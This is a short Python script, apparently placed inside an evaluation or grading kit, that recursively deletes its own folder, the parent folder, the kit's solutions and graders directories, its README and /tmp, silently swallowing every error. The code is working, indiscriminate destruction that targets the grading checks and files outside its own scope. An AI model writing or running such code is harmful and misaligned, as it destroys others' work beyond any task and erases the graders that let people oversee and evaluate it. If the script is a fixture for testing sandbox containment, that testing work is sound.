"""Deletes whatever it can reach: its own folder, the kit, other folders."""
import os
import shutil
for path in (".", "..", "/work/main/solutions", "/work/main/graders", "/work/main/README.md", "/tmp"):
    try:
        if os.path.isdir(path):
            shutil.rmtree(path, ignore_errors=True)
        else:
            os.remove(path)
    except OSError:
        pass
